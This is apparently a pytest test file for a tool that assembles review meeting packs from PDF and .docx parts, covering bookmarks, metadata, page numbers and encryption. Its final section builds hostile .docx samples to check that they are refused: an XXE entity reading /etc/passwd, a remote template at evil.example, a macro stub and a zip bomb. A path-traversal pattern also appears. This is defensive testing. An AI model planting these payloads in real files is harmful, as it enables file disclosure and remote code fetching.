"""Packs: bookmarks per part, metadata, page numbers, untrusted parts refused, and the `bundle` command."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter

from cspr_docs.errors import DraftError, OutputError
from cspr_docs.pdf.bundle import bundle_pdfs


def write_pdf(path: Path, pages: int, *, author: str | None = None, password: str | None = None) -> Path:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=300, height=400)
    if author:
        writer.add_metadata({"/Author": author, "/Title": "source title"})
    if password:
        writer.encrypt(password, algorithm="AES-256")
    path.parent.mkdir(parents=True, exist_ok=True)
    buffer = io.BytesIO()
    writer.write(buffer)
    path.write_bytes(buffer.getvalue())
    return path


def make_case(invoke, folder: Path, route: str = "referral") -> Path:
    result = invoke("init", folder, "--route", route)
    assert result.exit_code == 0, result.output
    return folder


def outline(reader: PdfReader) -> list[tuple[str, int]]:
    return [(item.title, reader.get_destination_page_number(item)) for item in reader.outline]


def test_bundle_has_one_bookmark_per_part_and_clean_metadata(tmp_path, monkeypatch):
    monkeypatch.setenv("USER", "Zzsentinelname")
    parts = [
        ("Referral form", write_pdf(tmp_path / "a.pdf", 2, author="Someone Real")),
        ("Combined summary", write_pdf(tmp_path / "b.pdf", 3)),
        ("Agency reply: Police", write_pdf(tmp_path / "c.pdf", 1)),
    ]
    out = bundle_pdfs(parts, tmp_path / "pack" / "pack.pdf", title="Rapid review meeting pack")
    reader = PdfReader(out)
    assert len(reader.pages) == 6
    assert outline(reader) == [("Referral form", 0), ("Combined summary", 2), ("Agency reply: Police", 5)]
    assert reader.metadata["/Title"] == "Rapid review meeting pack"
    assert reader.metadata["/Producer"] == "cspr-docs"
    assert "/Author" not in reader.metadata
    assert b"Zzsentinelname" not in out.read_bytes()
    assert b"Someone Real" not in out.read_bytes()


def test_page_numbers_are_stamped(tmp_path):
    parts = [("One", write_pdf(tmp_path / "a.pdf", 2)), ("Two", write_pdf(tmp_path / "b.pdf", 1))]
    reader = PdfReader(bundle_pdfs(parts, tmp_path / "p.pdf", title="T", number_pages=True))
    texts = [page.extract_text() for page in reader.pages]
    assert ["Page 1 of 3" in texts[0], "Page 2 of 3" in texts[1], "Page 3 of 3" in texts[2]] == [True] * 3
    plain = PdfReader(bundle_pdfs(parts, tmp_path / "q.pdf", title="T"))
    assert "Page" not in plain.pages[0].extract_text()


def test_existing_output_is_refused_without_force(tmp_path):
    target = tmp_path / "p.pdf"
    target.write_bytes(b"old")
    parts = [("One", write_pdf(tmp_path / "a.pdf", 1))]
    with pytest.raises(OutputError) as caught:
        bundle_pdfs(parts, target, title="T")
    assert caught.value.exit_code == 5
    assert target.read_bytes() == b"old"
    bundle_pdfs(parts, target, title="T", force=True)
    assert len(PdfReader(target).pages) == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "empty file"),
        (b"<!DOCTYPE html><html><body>Session expired</body></html>", "not a PDF"),
        (b"%PDF-1.7\n1 0 obj garbage", "not a readable PDF"),
    ],
)
def test_broken_parts_are_bad_input_and_nothing_is_written(tmp_path, content, message):
    bad = tmp_path / "reply.pdf"
    bad.write_bytes(content)
    with pytest.raises(DraftError) as caught:
        bundle_pdfs([("Good", write_pdf(tmp_path / "a.pdf", 1)), ("Bad", bad)], tmp_path / "p.pdf", title="T")
    assert caught.value.exit_code == 3
    assert message in caught.value.message
    assert not (tmp_path / "p.pdf").exists()


def test_encrypted_part_is_refused(tmp_path):
    locked = write_pdf(tmp_path / "locked.pdf", 1, password="longpassword")
    with pytest.raises(DraftError, match="encrypted PDF"):
        bundle_pdfs([("Locked", locked)], tmp_path / "p.pdf", title="T")


def rapid_review_folder(invoke, tmp_path: Path) -> Path:
    case = make_case(invoke, tmp_path / "case")
    write_pdf(case / "out" / "CSPR-0000-00-referral-form.pdf", 2)
    write_pdf(case / "out" / "CSPR-0000-00-combined-summary.pdf", 3)
    write_pdf(case / "replies" / "CSPR-0000-00-police.pdf", 1)
    write_pdf(case / "replies" / "CSPR-0000-00-csc.pdf", 2)
    return case


def test_bundle_command_builds_the_rapid_review_meeting_pack(tmp_path, invoke):
    case = rapid_review_folder(invoke, tmp_path)
    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--number-pages")
    assert result.exit_code == 0, result.stderr
    out = case / "out" / "CSPR-0000-00-rapid-review-meeting.pdf"
    reader = PdfReader(out)
    assert len(reader.pages) == 8
    assert outline(reader) == [
        ("Referral form", 0),
        ("Combined summary", 2),
        ("Agency reply: Example Council Children's Social Care", 5),
        ("Agency reply: Example Constabulary", 7),
    ]
    assert "Page 8 of 8" in reader.pages[7].extract_text()
    again = invoke("bundle", "rapid-review-meeting", "--case", case)
    assert again.exit_code == 5


def test_notification_pdf_replaces_the_referral_form(tmp_path, invoke):
    case = make_case(invoke, tmp_path / "case", route="notification")
    write_pdf(case / "out" / "x-combined-summary.pdf", 1)
    write_pdf(case / "replies" / "csc.pdf", 1)
    missing = invoke("bundle", "rapid-review-meeting", "--case", case, "--out", tmp_path / "p.pdf")
    assert missing.exit_code == 3
    assert "--notification" in missing.stderr
    notification = write_pdf(tmp_path / "sin.pdf", 2)
    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--out", tmp_path / "p.pdf",
                    "--notification", notification)
    assert result.exit_code == 0, result.stderr
    assert outline(PdfReader(tmp_path / "p.pdf"))[0] == ("Serious incident notification", 0)


def test_missing_part_is_bad_input(tmp_path, invoke):
    case = make_case(invoke, tmp_path / "case")
    write_pdf(case / "out" / "CSPR-0000-00-referral-form.pdf", 1)
    result = invoke("bundle", "rapid-review-meeting", "--case", case)
    assert result.exit_code == 3
    assert "combined-summary" in result.stderr


def test_declared_pack_from_a_yaml_file(tmp_path, invoke):
    case = rapid_review_folder(invoke, tmp_path)
    packs = tmp_path / "packs.yaml"
    packs.write_text(
        "panel-submission:\n"
        "  title: Submission to the Panel\n"
        "  parts:\n"
        "    - {title: Summary, files: out/*combined-summary*}\n"
        "    - {title: 'Reply {name}', files: replies/*police*, each: true}\n"
        "    - {title: Extra, files: annex/*, optional: true}\n"
    )
    result = invoke("bundle", "panel-submission", "--case", case, "--packs", packs, "--out", tmp_path / "s.pdf")
    assert result.exit_code == 0, result.stderr
    reader = PdfReader(tmp_path / "s.pdf")
    assert outline(reader) == [("Summary", 0), ("Reply Example Constabulary", 3)]
    assert reader.metadata["/Title"] == "Submission to the Panel: CSPR-0000-00"


def test_pack_file_escaping_the_case_folder_is_refused(tmp_path, invoke):
    case = rapid_review_folder(invoke, tmp_path)
    packs = tmp_path / "packs.yaml"
    packs.write_text("p:\n  parts:\n    - {title: Secret, files: ../../etc/*}\n")
    result = invoke("bundle", "p", "--case", case, "--packs", packs)
    assert result.exit_code == 3
    assert "packs.yaml:3" in result.stderr


def test_encrypted_pack(tmp_path, invoke, monkeypatch):
    case = rapid_review_folder(invoke, tmp_path)
    monkeypatch.setenv("PACK_PASSWORD", "correct horse battery")
    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--out", tmp_path / "e.pdf",
                    "--encrypt", "--password-env", "PACK_PASSWORD")
    assert result.exit_code == 0, result.stderr
    reader = PdfReader(tmp_path / "e.pdf")
    assert reader.is_encrypted
    reader.decrypt("correct horse battery")
    assert len(reader.pages) == 8


def test_password_option_without_encrypt_is_a_usage_error(tmp_path, invoke):
    case = rapid_review_folder(invoke, tmp_path)
    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--password-env", "X")
    assert result.exit_code == 2


# --- untrusted .docx parts are checked before LibreOffice opens them ----------------------------------------------


def reply_docx(path: Path, *, extra: dict[str, bytes] | None = None, rels: bytes = b"", prolog: bytes = b"") -> Path:
    """A small agency reply .docx, optionally with extra zip entries, a relationship, or a DOCTYPE prolog."""
    import zipfile

    from docx import Document

    document = Document()
    document.add_paragraph("Agency reply")
    plain = io.BytesIO()
    document.save(plain)
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, zipfile.ZipFile(
        path, "w", zipfile.ZIP_DEFLATED
    ) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml" and prolog:
                data = prolog + data.split(b"?>", 1)[1]
            if item.filename == "word/_rels/document.xml.rels" and rels:
                data = data.replace(b"</Relationships>", rels + b"</Relationships>")
            target.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return path


HOSTILE = {
    "macros": ({"extra": {"word/vbaProject.bin": b"\x00" * 64}}, "macros"),
    "bomb": ({"extra": {"word/media/filler.xml": b"\x00" * (30 * 1024 * 1024)}}, "zip bomb"),
    "doctype": ({"prolog": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'},
                "DOCTYPE"),
    "linked-template": ({"rels": b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
                                 b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                                 b'TargetMode="External"/>'}, "external"),
}


@pytest.fixture
def soffice_stub(tmp_path, monkeypatch):
    """A stand-in LibreOffice that writes a 1-page PDF per document and logs every document it is given."""
    return install_soffice_stub(tmp_path, monkeypatch)


def install_soffice_stub(tmp_path: Path, monkeypatch) -> Path:
    """Point CSPR_DOCS_SOFFICE at the stand-in LibreOffice; returns its log (absent until it converts something)."""
    import stat
    import sys

    good = write_pdf(tmp_path / "stub-good.pdf", 1)
    log = tmp_path / "stub.log"
    script = tmp_path / "soffice-stub"
    script.write_text(
        f"#!{sys.executable}\n"
        "import sys\nfrom pathlib import Path\n"
        "args = sys.argv[1:]\nout = Path(args[args.index('--outdir') + 1])\n"
        "for doc in args[args.index('--outdir') + 2:]:\n"
        f"    open({str(log)!r}, 'a').write(doc + '\\n')\n"
        f"    (out / (Path(doc).stem + '.pdf')).write_bytes(Path({str(good)!r}).read_bytes())\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("CSPR_DOCS_SOFFICE", str(script))
    return log


def test_a_safe_docx_reply_is_converted_into_the_pack(tmp_path, invoke, soffice_stub):
    case = rapid_review_folder(invoke, tmp_path)
    reply_docx(case / "replies" / "late-reply.docx", rels=b'<Relationship Id="rIdW" Type="http://schemas.'
               b'openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" '
               b'TargetMode="External"/>')
    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--out", tmp_path / "p.pdf")
    assert result.exit_code == 0, result.stderr
    assert len(soffice_stub.read_text().splitlines()) == 1
    assert [title for title, _ in outline(PdfReader(tmp_path / "p.pdf"))][-1] == "Agency reply: late-reply"


@pytest.mark.parametrize("hostile", list(HOSTILE))
def test_an_unsafe_docx_reply_is_refused_before_libreoffice_opens_it(tmp_path, invoke, soffice_stub, hostile):
    options, reason = HOSTILE[hostile]
    case = rapid_review_folder(invoke, tmp_path)
    reply_docx(case / "replies" / "late-reply.docx", **options)
    target = tmp_path / "p.pdf"
    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--out", target)
    assert result.exit_code == 3, result.stderr
    assert "late-reply.docx" in result.stderr and reason in result.stderr
    assert not soffice_stub.exists()
    assert not target.exists()
